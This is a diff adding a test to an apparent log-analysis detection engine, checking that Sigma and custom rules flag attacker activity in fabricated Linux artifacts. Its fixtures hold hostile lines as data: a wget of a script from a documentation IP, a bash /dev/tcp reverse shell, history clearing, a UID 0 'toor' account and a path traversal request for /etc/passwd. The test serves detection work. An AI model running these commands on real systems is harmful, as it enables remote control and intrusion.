@@ -200,3 +200,36 @@ def test_a_million_events_stream_in_bounded_memory():
     whoami = [h for h in res.hits if h.rule.title == "Enumerate All Information With Whoami.EXE"]
     assert [h.count for h in whoami] == [2_500] * 4 and all(len(h.keys) == engine.KEEP_KEYS for h in whoami)
     assert grown_mb < 60, grown_mb
+
+
+def test_linux_shell_history_auth_and_web_access_logs(new_case, tmp_path):
+    """SigmaHQ's Linux process-creation rules over shell history and sudo lines, UngCuu's account rules
+    over the auth log, web rules over an access log (SigmaHQ's and UngCuu's on the same request: one finding)."""
+    from analysis_helpers import add_text
+
+    c = new_case("linux")
+    add_text(c, tmp_path, "/root/.bash_history",
+             "#1699590000\nwget http://203.0.113.50/x.sh -O /tmp/x.sh\n#1699590020\n"
+             "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n#1699590040\nhistory -c\n")
+    add_text(c, tmp_path, "/var/log/auth.log",
+             "Nov 10 02:16:00 web01 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; "
+             "COMMAND=/usr/bin/base64 -d /tmp/p.b64\n"
+             "Nov 10 02:17:00 web01 useradd[1200]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash\n",
+             mtime=1700000000)
+    add_text(c, tmp_path, "/var/log/nginx/access.log",
+             '203.0.113.50 - - [10/Nov/2023:01:00:05 +0700] "GET /../../../../etc/passwd HTTP/1.1" 404 0 "-" "sqlmap/1.7"\n')
+    found = findings.run(c, min_level="low")
+    got = {(f.rule, f.origin): [e["locator"] for e in f.events] for f in found if f.origin != "check"}
+    # a history entry's locator is the line of its "#<time>" stamp
+    assert got[("738d9bcf-6999-4fdb-b4ac-3033037db8ab", "sigma")] == ["line 3"]  # Suspicious Reverse Shell Command Line
+    assert got[("fdc88d25-96fb-4b7c-9633-c0e417fdbd4e", "sigma")] == ["line 5"]  # Linux Command History Tampering
+    assert got[("cf610c15-ed71-46e1-bdf8-2bd1a99de6c4", "sigma")] == ["line 1"]  # wget to a suspicious folder
+    assert got[("C5-suspicious-command-line-linux", "ungcuu")] == ["line 1", "line 3"]  # wget from a bare IP; /dev/tcp
+    assert got[("e2072cab-8c9a-459b-b63c-40ae79e27031", "sigma")] == ["line 1"]  # base64 -d, from the sudo line
+    assert got[("H2-new-account-uid0-linux", "ungcuu")] == ["line 2"]
+    [trav] = [f for f in found if f.rule == "C6-web-path_traversal"]
+    assert trav.first_match["c-uri"] == "/../../../../etc/passwd" and trav.first_match["c-ip"] == "203.0.113.50"
+    also = {a["title"] for a in trav.details["also_matched"]}
+    assert "Path Traversal Exploitation Attempts" in also
+    [ua] = [f for f in found if f.rule == "C6-web-scanner"]
+    assert ua.first_match["c-useragent"] == "sqlmap/1.7" and ua.tactic == "reconnaissance"
